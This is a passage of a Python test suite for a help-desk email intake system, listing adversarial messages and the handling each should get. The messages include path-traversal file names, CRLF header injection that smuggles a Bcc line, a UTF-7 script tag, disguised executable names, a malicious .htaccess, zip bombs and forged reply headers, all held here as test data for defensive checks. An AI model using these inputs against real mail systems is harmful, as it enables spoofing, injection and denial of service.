        NEW_CASE,
        checks(html_note_is_inert("Look:"), attachment_count(0)),
    ),
    # --- 7. Thousands of links, URLs that make naive regexes backtrack -------------------------
    Entry(
        "html_thousands_of_links",
        7,
        lambda: html_mail(
            "".join(f'<a href="https://customer.test/{n}">link {n}</a> ' for n in range(5000))
        ),
        NEW_CASE,
        checks(note_has("link 0", "link 4999"), note_has_no_markup),
        max_seconds=10,
    ),
    Entry(
        "text_thousands_of_urls",
        7,
        lambda: message(body="\n".join(f"https://customer.test/{n}" for n in range(10_000))),
        NEW_CASE,
        note_has("https://customer.test/0"),
        max_seconds=10,
    ),
    Entry(
        "text_pathological_url",
        7,
        lambda: message(body=f"See {PATHOLOGICAL_URL}\n" + "<@" * 20_000 + "\nOn " + ", " * 20_000),
        NEW_CASE,
        note_has("See http://a.a."),
        max_seconds=10,
    ),
    Entry(
        "html_pathological_url",
        7,
        lambda: html_mail(f'<a href="{PATHOLOGICAL_URL}">long link</a>' + "<p>" * 5000),
        NEW_CASE,
        note_has("long link"),
        max_seconds=10,
    ),
    # --- 8. Hostile file names ------------------------------------------------------------------
    Entry(
        "file_name_dot_dot_slash",
        8,
        lambda: with_attachments(attachment(b"root:x:0:0", filename="../../etc/passwd")),
        NEW_CASE,
        one_attachment(name="passwd", download_only=True),
    ),
    Entry(
        "file_name_dot_dot_backslash",
        8,
        lambda: with_attachments(attachment(b"[fonts]", filename="..\\..\\win.ini")),
        NEW_CASE,
        one_attachment(name="win.ini", download_only=True),
    ),
    Entry(
        "file_name_absolute_path",
        8,
        lambda: with_attachments(attachment(b"x", filename="/etc/shadow")),
        NEW_CASE,
        one_attachment(name="shadow"),
    ),
    Entry(
        "file_name_windows_absolute_path",
        8,
        lambda: with_attachments(
            attachment(
                b"MZ\x90\x00",
                disposition=f"attachment; filename*={rfc2231(WINDOWS_PATH)}",
            )
        ),
        NEW_CASE,
        one_attachment(name="a.dll", download_only=True),
    ),
    Entry(
        # In a quoted string a backslash only escapes the next character (RFC 5322).
        "file_name_windows_path_in_a_quoted_string",
        8,
        lambda: with_attachments(attachment(b"MZ\x90\x00", filename="C:\\Windows\\a.dll")),
        NEW_CASE,
        one_attachment(name="C:Windowsa.dll", download_only=True),
    ),
    Entry(
        "file_name_empty",
        8,
        lambda: with_attachments(attachment(PDF, content_type="application/pdf", filename="")),
        NEW_CASE,
        one_attachment(name="attachment", content_type="application/pdf"),
    ),
    Entry(
        "file_name_1000_characters",
        8,
        lambda: with_attachments(
            attachment(PDF, disposition=f"attachment; filename*={rfc2231(LONG_NAME)}")
        ),
        NEW_CASE,
        one_attachment(name="A" * 196 + ".pdf"),
    ),
    Entry(
        "file_name_con_txt",
        8,
        lambda: with_attachments(attachment(b"device name", filename="CON.txt")),
        NEW_CASE,
        one_attachment(name="CON.txt"),
    ),
    Entry(
        "file_name_raw_nul_byte",
        8,
        lambda: with_attachments(attachment(HTML_PAGE, filename=b"a.pdf\x00.html")),
        NEW_CASE,
        one_attachment(name="a.pdf.html", content_type="text/html", download_only=True),
    ),
    Entry(
        "file_name_encoded_nul_byte",
        8,
        lambda: with_attachments(
            attachment(HTML_PAGE, disposition="attachment; filename*=utf-8''a.pdf%00.html")
        ),
        NEW_CASE,
        one_attachment(name="a.pdf.html", content_type="text/html", download_only=True),
    ),
    # --- 9. Active file types and disguised names ---------------------------------------------
    Entry(
        "file_html",
        9,
        lambda: with_attachments(
            attachment(HTML_PAGE, content_type="text/html", filename="invoice.html")
        ),
        NEW_CASE,
        one_attachment(name="invoice.html", content_type="text/html", download_only=True),
    ),
    Entry(
        "file_svg_with_onload",
        9,
        lambda: with_attachments(
            attachment(SVG, content_type="image/svg+xml", filename="logo.svg")
        ),
        NEW_CASE,
        one_attachment(name="logo.svg", content_type="image/svg+xml", download_only=True),
    ),
    Entry(
        "file_htaccess",
        9,
        lambda: with_attachments(
            attachment(b"AddType application/x-httpd-php .png\n", filename=".htaccess")
        ),
        NEW_CASE,
        one_attachment(name="htaccess", download_only=True),
    ),
    Entry(
        "file_name_zero_width_space_prefix",
        9,
        lambda: with_attachments(
            attachment(
                HTML_PAGE, disposition=f"attachment; filename*={rfc2231(chr(0x200B) + '.html')}"
            )
        ),
        NEW_CASE,
        one_attachment(name="html", content_type="text/html", download_only=True),
    ),
    Entry(
        "svg_as_an_inline_cid_image",
        9,
        lambda: with_parts(
            "related",
            [
                part(
                    "text/html; charset=utf-8", '<p>Our logo:</p><img src="cid:logo@customer.test">'
                ),
                part(
                    'image/svg+xml; name="logo.svg"',
                    base64.encodebytes(SVG),
                    headers=[
                        ("Content-ID", "<logo@customer.test>"),
                        ("Content-Disposition", "inline"),
                    ],
                    encoding="base64",
                ),
            ],
        ),
        NEW_CASE,
        checks(
            note_has("Our logo:"),
            one_attachment(
                name="logo.svg", content_type="image/svg+xml", inline=True, download_only=True
            ),
        ),
    ),
    Entry(
        "file_double_extension_svg_png",
        9,
        lambda: with_attachments(attachment(SVG, content_type="image/png", filename="x.svg.png")),
        NEW_CASE,
        one_attachment(
            name="x.svg.png",
            declared_type="image/png",
            content_type="image/svg+xml",
            download_only=True,
        ),
    ),
    Entry(
        "file_name_right_to_left_override",
        9,
        lambda: with_attachments(
            attachment(
                b"MZ\x90\x00\x03",
                disposition=f"attachment; filename*={rfc2231('invoice' + chr(0x202E) + 'fdp.exe')}",
            )
        ),
        NEW_CASE,
        one_attachment(name="invoicefdp.exe", download_only=True),
    ),
    # --- 10. Encoded parameters -----------------------------------------------------------------
    Entry(
        "file_name_rfc2231_continuations",
        10,
        lambda: with_attachments(
            attachment(
                PDF,
                disposition="attachment;\r\n filename*0*=utf-8''%E2%82%AC%20rates;\r\n"
                " filename*1*=%20Q3.pdf",
            )
        ),
        NEW_CASE,
        one_attachment(name="€ rates Q3.pdf", content_type="application/pdf"),
    ),
    Entry(
        "file_name_invalid_percent_encoding",
        10,
        lambda: with_attachments(
            attachment(PDF, disposition="attachment; filename*=utf-8''100%ZZ%E2%82%.pdf")
        ),
        NEW_CASE,
        one_attachment(content_type="application/pdf"),
    ),
    Entry(
        "file_name_rfc2047_in_name_parameter",
        10,
        lambda: with_attachments(
            attachment(
                PDF,
                content_type=f'application/pdf; name="{encoded_word("Résumé.pdf")}"',
                filename=None,
            )
        ),
        NEW_CASE,
        one_attachment(name="Résumé.pdf"),
    ),
    # --- 11. Lying Content-Types, CR/LF inside header values ---------------------------------
    Entry(
        "html_sent_as_image_png",
        11,
        lambda: with_attachments(
            attachment(HTML_PAGE, content_type="image/png", filename="photo.png")
        ),
        NEW_CASE,
        one_attachment(
            name="photo.png",
            declared_type="image/png",
            content_type="text/html",
            download_only=True,
        ),
    ),
    Entry(
        "crlf_in_encoded_subject",
        11,
        lambda: message(subject="=?utf-8?q?Hello=0D=0ABcc:=20victim@evil.example?="),
        NEW_CASE,
        checks(subject_is("Hello Bcc: victim@evil.example"), ack_sent_to_the_sender_only),
    ),
    Entry(
        "crlf_in_encoded_file_name",
        11,
        lambda: with_attachments(
            attachment(
                PDF,
                disposition=f"attachment; filename*={rfc2231(CRLF_NAME)}",
            )
        ),
        NEW_CASE,
        one_attachment(name="aX-Injected: 1.pdf", content_type="application/pdf"),
    ),
    # --- 12. Odd containers and structures ------------------------------------------------------
    Entry(
        "winmail_dat_tnef",
        12,
        lambda: with_attachments(
            attachment(
                b"\x78\x9f\x3e\x22\x01\x00" + bytes(64),
                content_type="application/ms-tnef",
                filename="winmail.dat",
            )
        ),
        NEW_CASE,
        one_attachment(name="winmail.dat", content_type="application/ms-tnef", download_only=True),
    ),
    Entry(
        "attached_outlook_msg",
        12,
        lambda: with_attachments(
            attachment(
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
                content_type="application/vnd.ms-outlook",
                filename="Fwd printer.msg",
            )
        ),
        NEW_CASE,
        one_attachment(
            name="Fwd printer.msg", content_type="application/octet-stream", download_only=True
        ),
    ),
    Entry(
        "message_rfc822_nested_20_deep",
        12,
        lambda: nested_messages(20),
        NEW_CASE,
        checks(note_has("Forwarded many times."), one_attachment(download_only=True)),
    ),
    Entry(
        "message_rfc822_nested_40_deep",
        12,
        lambda: nested_messages(40),
        QUARANTINED(IntakeError.MAIL_TOO_DEEP),
    ),
    Entry(
        "multipart_nested_1000_deep",
        12,
        lambda: nested_multipart(1000),
        QUARANTINED(IntakeError.MAIL_TOO_DEEP),
        max_seconds=10,
    ),
    Entry(
        "multipart_600_parts",
        12,
        lambda: with_parts(
            "mixed", [attachment(b"x", filename=f"part{n}.txt") for n in range(600)]
        ),
        QUARANTINED(IntakeError.MAIL_TOO_MANY_PARTS),
    ),
    Entry(
        "multipart_missing_closing_boundary",
        12,
        lambda: with_parts(
            "mixed",
            [
                part("text/plain; charset=utf-8", "Cut off before the end."),
                attachment(PDF, content_type="application/pdf", filename="report.pdf"),
            ],
            close=False,
        ),
        NEW_CASE,
        checks(
            note_has("Cut off before the end."),
            one_attachment(name="report.pdf"),
            has_defect("closing boundary"),
        ),
    ),
    Entry(
        "x_uuencode_attachment",
        12,
        lambda: with_attachments(
            part(
                'application/octet-stream; name="data.bin"',
                uuencoded(b"\x00\x01binary payload\xff" * 10, "data.bin"),
                headers=[("Content-Disposition", 'attachment; filename="data.bin"')],
                encoding="x-uuencode",
            )
        ),
        NEW_CASE,
        checks(
            one_attachment(name="data.bin"),
            attachment_bytes(b"\x00\x01binary payload\xff" * 10),
        ),
    ),
    # --- 13. Charsets ----------------------------------------------------------------------------
    Entry(
        "charset_unknown",
        13,
        lambda: message(content_type="text/plain; charset=x-unknown", body=b"Caf\xe9 au lait\r\n"),
        NEW_CASE,
        checks(note_has("Café au lait"), has_defect("x-unknown")),
    ),
    Entry(
        "charset_iso_2022_jp",
        13,
        lambda: message(
            subject=encoded_word(JAPANESE_SUBJECT, "iso-2022-jp"),
            content_type="text/plain; charset=ISO-2022-JP",
            encoding="7bit",
            body=JAPANESE_BODY.encode("iso-2022-jp") + b"\r\n",
        ),
        NEW_CASE,
        checks(subject_is(JAPANESE_SUBJECT), note_has(JAPANESE_BODY)),
    ),
    Entry(
        "charset_windows_1258",
        13,
        lambda: message(
            content_type="text/plain; charset=windows-1258",
            encoding="8bit",
            body=VIETNAMESE_CP1258 + b"\r\n",
        ),
        NEW_CASE,
        note_has(VIETNAMESE),
    ),
    Entry(
        "charset_invalid_utf8_bytes",
        13,
        lambda: message(encoding="8bit", body=b"Hello \xff\xfe\xc3\x28 world\r\n"),
        NEW_CASE,
        checks(note_has("Hello", "world"), has_defect("not valid")),
    ),
    Entry(
        "charset_utf7_script",
        13,
        lambda: message(
            content_type="text/plain; charset=utf-7",
            body="Hi +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ),
        NEW_CASE,
        checks(note_has("+ADw-script+AD4-"), note_lacks("<script>")),
    ),
    Entry(
        "charset_names_a_non_text_codec",
        13,
        lambda: message(content_type="text/plain; charset=rot13", body="Uryyb jbeyq"),
        NEW_CASE,
        note_has("Uryyb jbeyq"),
    ),
    Entry(
        "raw_8bit_headers",
        13,
        lambda: message(
            sender=b"J\xf6rg M\xfcller <joerg@customer.test>",
            subject="Grüße aus Köln".encode(),
        ),
        NEW_CASE,
        checks(
            subject_is("Grüße aus Köln"),
            from_is("joerg@customer.test", "Jörg Müller"),
            has_defect("raw 8-bit"),
        ),
    ),
    Entry(
        "body_8bit_without_charset",
        13,
        lambda: message(content_type="text/plain", encoding="8bit", body="naïve café"),
        NEW_CASE,
        note_has("naïve café"),
    ),
    # --- 14. Empty and huge --------------------------------------------------------------------
    Entry("empty_body", 14, lambda: message(body=""), NEW_CASE, attachment_count(0)),
    Entry(
        "no_subject_and_no_body",
        14,
        lambda: message(subject=None, body=""),
        NEW_CASE,
        subject_is_placeholder,
    ),
    Entry(
        "attachment_only",
        14,
        lambda: with_parts(
            "mixed", [attachment(PDF, content_type="application/pdf", filename="scan.pdf")]
        ),
        NEW_CASE,
        one_attachment(name="scan.pdf", content_type="application/pdf", download_only=True),
    ),
    Entry(
        "body_50_mb",
        14,
        lambda: message(body=(b"A" * 998 + b"\r\n") * (50 * MB // 1000)),
        QUARANTINED(IntakeError.MAIL_OVERSIZED),
        settings=(("FOLLOWTHROUGH_MAIL_MAX_BYTES", MB),),
    ),
    Entry(
        "attachment_100_mb",
        14,
        lambda: with_attachments(
            part(
                "application/octet-stream",
                base64_zeros(100 * MB),
                headers=[("Content-Disposition", 'attachment; filename="disk.img"')],
                encoding="base64",
            )
        ),
        QUARANTINED(IntakeError.MAIL_OVERSIZED),
        settings=(("FOLLOWTHROUGH_MAIL_MAX_BYTES", MB),),
    ),
    Entry(
        "attachment_over_the_attachment_limit",
        14,
        lambda: with_attachments(
            part(
                "application/octet-stream",
                base64_zeros(2 * MB),
                headers=[("Content-Disposition", 'attachment; filename="big.bin"')],
                encoding="base64",
            )
        ),
        QUARANTINED(IntakeError.MAIL_ATTACHMENT_TOO_LARGE),
        settings=(("FOLLOWTHROUGH_MAIL_MAX_ATTACHMENT_BYTES", MB),),
    ),
    Entry(
        "zip_bomb",
        14,
        lambda: with_attachments(
            attachment(zip_bomb(), content_type="application/zip", filename="logs.zip")
        ),
        NEW_CASE,
        one_attachment(name="logs.zip", content_type="application/zip", download_only=True),
    ),
    Entry(
        "gzip_bomb",
        14,
        lambda: with_attachments(
            attachment(
                gzip_bomb(),
                content_type="application/gzip",
                filename="logs.tar.gz",
            )
        ),
        NEW_CASE,
        one_attachment(name="logs.tar.gz", content_type="application/gzip", download_only=True),
    ),
    Entry(
        "png_30000_by_30000_pixels",
        14,
        lambda: with_attachments(
            attachment(png_of_size(30_000, 30_000), content_type="image/png", filename="huge.png")
        ),
        NEW_CASE,
        one_attachment(name="huge.png", content_type="image/png"),
    ),
    # --- 15. Ten thousand recipients ------------------------------------------------------------
    Entry(
        "ten_thousand_recipients",
        15,
        _ten_thousand_recipients,
        NEW_CASE,
        participants(21),
        max_seconds=10,
    ),
    # --- 16. Who sent it: display-name tricks ---------------------------------------------------
    Entry(
        "from_display_name_is_an_address",
        16,
        lambda: message(sender='"boss@corp.example" <evil@x.example>'),
        NEW_CASE,
        from_is("evil@x.example", "boss@corp.example"),
    ),
    Entry(
        "from_comment_bracket_trick",
        16,
        lambda: message(sender="alice@corp.example)<bob@evil.example>"),
        NEW_CASE,
        from_is("bob@evil.example"),
    ),
    Entry(
        "from_display_name_with_crlf_bcc",
        16,
        lambda: message(
            sender=f"{encoded_word('Eve' + chr(13) + chr(10) + 'Bcc: victim@evil.example')}"
            " <eve@evil.example>"
        ),
        NEW_CASE,
        checks(
            from_is("eve@evil.example", "Eve Bcc: victim@evil.example"),
            ack_sent_to_the_sender_only,
        ),
    ),
    Entry(
        "from_display_name_of_a_participant_with_a_valid_tag",
        16,
        lambda c: message(sender=f'"{PARTICIPANT}" <evil@x.example>', subject=f"Re: {c.tag}"),
        NEW_CASE_REFUSED,
        checks(from_is("evil@x.example"), names_setup_case),
    ),
    Entry(
        "from_two_angle_addresses",
        16,
        lambda: message(sender=f"Pat <{PARTICIPANT}> <evil@x.example>"),
        QUARANTINED(IntakeError.MAIL_NO_SENDER),
    ),
    # --- 17. The same message twice -------------------------------------------------------------
    Entry(
        "same_message_twice_to_one_mailbox",
        17,
        lambda: message(message_id="<twice@customer.test>"),
        NEW_CASE,
        same_row_as_earlier,
        earlier=deliver_first_to("support"),
        created=False,
    ),
    Entry(
        "same_message_without_message_id_twice",
        17,
        lambda: message(message_id=None, subject="No id, twice"),
        NEW_CASE,
        checks(same_row_as_earlier, no_message_id),
        earlier=deliver_first_to("support"),
        created=False,
    ),
    Entry(
        "same_message_to_two_mailboxes",
        17,
        lambda: message(message_id="<both@customer.test>"),
        IGNORED(IntakeError.MAIL_DUPLICATE),
        duplicate_points_at_earlier,
        earlier=deliver_first_to("sales"),
    ),
    # --- 18. Missing and monstrous Message-IDs --------------------------------------------------
    Entry("no_message_id", 18, lambda: message(message_id=None), NEW_CASE, no_message_id),
    Entry(
        "message_id_10_kb",
        18,
        lambda: message(message_id="<" + "x" * 10_000 + "@customer.test>"),
        NEW_CASE,
        checks(no_message_id, has_defect("Message-ID")),
    ),
    # --- 19. Forged references and guessed case numbers from outsiders -------------------------
    Entry(
        "forged_in_reply_to_the_setup_case",
        19,
        lambda c: message(headers=[("In-Reply-To", f"<{c.first.message_id}>")]),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "forged_references_to_our_acknowledgement",
        19,
        lambda c: message(headers=[("References", f"<{c.ack.message_id}>")]),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "guessed_case_number_in_subject",
        19,
        lambda c: message(subject=f"Re: {c.case.number} printer"),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "guessed_tag_with_a_wrong_token",
        19,
        lambda c: message(
            subject=f"Re: [{settings.CASE_NUMBER_PREFIX}-{c.case.pk}:aaaaaaaaaa] printer"
        ),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "valid_tag_copied_by_an_outsider",
        19,
        lambda c: message(subject=f"Re: {c.ack_subject}"),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "valid_reply_address_used_by_an_outsider",
        19,
        lambda c: message(to=c.reply_address),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    # --- 20. Our Message-ID format, forged, from a spoofed agent -------------------------------
    Entry(
        "our_message_id_format_forged_with_agent_from",
        20,
        lambda: message(
            sender=f"Sam Agent <{AGENT_EMAIL}>",
            headers=[
                ("In-Reply-To", "<ft.reply.0123456789abcdef01234567@followthrough.localhost>")
            ],
        ),
        NEW_CASE,
    ),
    Entry(
        "our_real_message_id_with_agent_from",
        20,
        lambda c: message(
            sender=f"Sam Agent <{AGENT_EMAIL}>",
            subject=f"Re: {c.ack_subject}",
            headers=[("In-Reply-To", f"<{c.ack.message_id}>")],
        ),
        NEW_CASE_REFUSED,
        names_setup_case,
    ),
    Entry(
        "our_own_message_id_came_back",
        20,
        lambda c: message(
            **_participant(message_id=f"<{c.ack.message_id}>", subject=c.ack_subject)
        ),
        IGNORED(IntakeError.MAIL_OWN_MESSAGE),
    ),
    Entry(
        "from_our_own_mailbox",
        20,
        lambda: message(sender=f"Support <{SUPPORT}>"),
        IGNORED(IntakeError.MAIL_OWN_MESSAGE),
    ),
    Entry(
        "from_our_own_tagged_reply_address",
        20,
        lambda c: message(sender=c.reply_address, subject=f"Re: {c.tag}"),
        IGNORED(IntakeError.MAIL_OWN_MESSAGE),
    ),
    Entry(
        "from_our_other_mailbox",
        20,
        lambda: message(sender=SALES),
        IGNORED(IntakeError.MAIL_OWN_MESSAGE),
    ),
    # --- 21. Our control headers, arriving from outside -----------------------------------------
    Entry(
        "followthrough_headers_from_an_outsider",
        21,
        lambda c: message(
            headers=[
                ("X-Followthrough-Case", str(c.case.pk)),
                ("X-Followthrough-Kind", "reply"),
                ("X-Followthrough-Trusted", "yes"),
                ("X-Followthrough-Signature", "v1=deadbeef"),
            ]
        ),
        NEW_CASE,
    ),
    Entry(
        "followthrough_headers_from_a_participant_without_references",
        21,
        lambda c: message(
            **_participant(
                subject="Another thing",
                headers=[("X-Followthrough-Case", str(c.case.pk)), ("X-Followthrough-Event", "x")],
            )
        ),
        NEW_CASE,
    ),
    # --- 22. Automatic mail: no case, no reply, no reopening -----------------------------------
    *(
        Entry(
            f"automatic_{name}",
            22,
            with_header(*header),
            IGNORED(IntakeError.MAIL_AUTOMATIC),
        )
        for name, header in [
            ("auto_submitted_auto_replied", ("Auto-Submitted", "auto-replied")),
            ("auto_submitted_auto_generated", ("Auto-Submitted", "auto-generated; type=x")),
            ("x_autoreply", ("X-Autoreply", "yes")),
            ("x_autorespond", ("X-Autorespond", "Out of office")),
            ("precedence_bulk", ("Precedence", "bulk")),
            ("precedence_list", ("Precedence", "list")),
            ("precedence_junk", ("Precedence", "junk")),
            ("precedence_auto_reply", ("Precedence", "auto_reply")),
            ("list_id", ("List-Id", "Customer news <news.customer.test>")),
            ("return_path_empty", ("Return-Path", "<>")),
        ]
    ),
    Entry(
        "automatic_delivery_report",
        22,
        _dsn,
        IGNORED(IntakeError.MAIL_AUTOMATIC),
    ),
    Entry(
        "automatic_read_receipt",
        22,
        _mdn,
        IGNORED(IntakeError.MAIL_AUTOMATIC),
    ),
    Entry(
        "automatic_from_mailer_daemon",
        22,
        lambda: message(sender="Mail Delivery System <MAILER-DAEMON@mx.customer.test>"),
        IGNORED(IntakeError.MAIL_AUTOMATIC),
    ),
    Entry(
        "automatic_from_postmaster",
        22,
        lambda: message(sender="postmaster@customer.test"),
        IGNORED(IntakeError.MAIL_AUTOMATIC),
    ),
    Entry(
        "automatic_out_of_office_to_the_setup_case",
        22,
        lambda c: message(
            **_participant(
                subject=f"Automatic reply: {c.ack_subject}",
                headers=[*_reply_headers(c), ("Auto-Submitted", "auto-replied")],
            )
        ),
        IGNORED(IntakeError.MAIL_AUTOMATIC),
    ),
    Entry(
        "auto_submitted_no_is_a_person",
        22,
        lambda: message(headers=[("Auto-Submitted", "no")]),
        NEW_CASE,
    ),
    Entry(
        "x_auto_response_suppress",
        22,
        lambda: message(headers=[("X-Auto-Response-Suppress", "All")]),
        NEW_CASE,
        ack=False,
    ),
    Entry(
        "noreply_sender",
        22,
        lambda: message(sender="Shop <no-reply@shop.example>"),
        NEW_CASE,
        ack=False,
    ),
    Entry(
        "bounces_tagged_sender",
        22,
        lambda: message(sender="bounces+1234@lists.example"),
        NEW_CASE,
        ack=False,
    ),
    # --- 23. Another help desk answering our acknowledgement ----------------------------------
    Entry(
        "other_help_desk_acknowledges_our_acknowledgement",
        23,
        lambda c: message(
            **_participant(
                subject=f"[Ticket #48213] Re: {c.ack_subject}",
                headers=[("In-Reply-To", f"<{c.ack.message_id}>")],
            ),
            body="Thank you for contacting us. Your ticket number is #48213.",
        ),
        ATTACHED,
    ),
    Entry(
        "other_help_desk_new_ticket_without_references",
        23,
        lambda: message(
            sender="Helpdesk <helpdesk@otherdesk.example>",
            subject="[Ticket #48214] We received your request",
            body="Thank you for contacting us. Your ticket number is #48214.",
        ),
        NEW_CASE,
    ),
    # --- 24. Reply-all, a subject tag alone, the reply address ---------------------------------
    Entry(
        "reply_all_with_support_in_cc",
        24,
        lambda c: message(
            **_participant(
                to=f"Chris <{COLLEAGUE}>, Sam <{AGENT_EMAIL}>",
                cc=f"Support <{SUPPORT}>, {c.reply_address}",
                subject=f"Re: {c.ack_subject}",
                headers=_reply_headers(c),
            )
        ),
        ATTACHED,
    ),
    Entry(
        "subject_tag_only_no_references",
        24,
        lambda c: message(**_participant(subject=f"Re: {c.ack_subject}")),
        ATTACHED,
    ),
    Entry(
        "reply_address_only",
        24,
        lambda c: message(**_participant(to=c.reply_address, subject="One more thing")),
        ATTACHED,
    ),
    Entry(
        "copied_colleague_replies_with_the_tag",
        24,
        lambda c: message(sender=f"Chris <{COLLEAGUE}>", subject=f"Re: {c.ack_subject}"),
        ATTACHED,
    ),
    # --- Messages that are no messages, or have no sender -------------------------------------
    Entry(
        "not_an_email_at_all",
        0,
        lambda: b"this is not an email message, just a line of text\r\n",
        QUARANTINED(IntakeError.MAIL_UNPARSEABLE),
    ),
    Entry(
        "empty_file",
        0,
        lambda: b"",
        QUARANTINED(IntakeError.MAIL_UNPARSEABLE),
    ),
    Entry("no_from", 16, lambda: message(sender=None), QUARANTINED(IntakeError.MAIL_NO_SENDER)),
    Entry(
        "from_without_an_address",
        16,
        lambda: message(sender="undisclosed-recipients:;"),
        QUARANTINED(IntakeError.MAIL_NO_SENDER),
    ),
]


def text_is_clean(value: str) -> bool:
    """No line break or other control character: safe for one header line or one label."""
    return not any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in value)
